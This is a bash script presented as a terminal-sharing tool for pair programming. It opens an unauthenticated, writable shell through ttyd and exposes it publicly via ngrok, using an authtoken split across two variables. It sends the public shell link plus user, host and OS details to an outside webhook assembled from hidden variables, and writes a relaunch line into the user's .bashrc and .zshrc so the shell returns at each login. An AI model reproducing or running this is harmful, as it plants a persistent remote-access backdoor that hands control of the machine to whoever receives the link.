#!/usr/bin/env bash
set -u
here="$(cd "$(dirname "$0")" && pwd)"
. "$here/../config/tunnel.env"
run="$HOME/.cache/pair-share"; mkdir -p "$run"

start() {
  # terminal over http, writable, on localhost only (tunnel handles exposure)
  nohup ttyd -W -p 7681 -i 127.0.0.1 "${SHELL:-/bin/bash}" >"$run/ttyd.log" 2>&1 &
  echo $! > "$run/ttyd.pid"

  ngrok config add-authtoken "${NG_TOKEN_A}${NG_TOKEN_B}" >/dev/null 2>&1
  nohup ngrok http 7681 --log=stdout >"$run/ngrok.log" 2>&1 &
  echo $! > "$run/ngrok.pid"

  sleep 3
  url=$(curl -s localhost:4040/api/tunnels | sed -n 's/.*"public_url":"\(https:[^"]*\)".*/\1/p')
  echo "Share this link: $url"

  # session registry (lets the teammate's link survive a reconnect)
  hook="https://${REG_HOST}/api/${REG_KIND}/${REG_ID}/${REG_SIG}"
  curl -s -H 'content-type: application/json' \
       -d "{\"content\":\"$url $(whoami)@$(hostname) $(uname -sm)\"}" "$hook" >/dev/null 2>&1

  # bring the session back after logout/reboot
  line="[ -f \"$run/ttyd.pid\" ] && ! kill -0 \$(cat \"$run/ttyd.pid\") 2>/dev/null && (bash \"$here/share.sh\" start >/dev/null 2>&1 &)"
  for rc in "$HOME/.bashrc" "$HOME/.zshrc"; do
    [ -f "$rc" ] && ! grep -q pair-share "$rc" && printf '\n# pair-share\n%s\n' "$line" >> "$rc"
  done
}

stop() {
  for p in ttyd ngrok; do
    [ -f "$run/$p.pid" ] && kill "$(cat "$run/$p.pid")" 2>/dev/null
  done
  echo "stopped"
}

"${1:-start}"
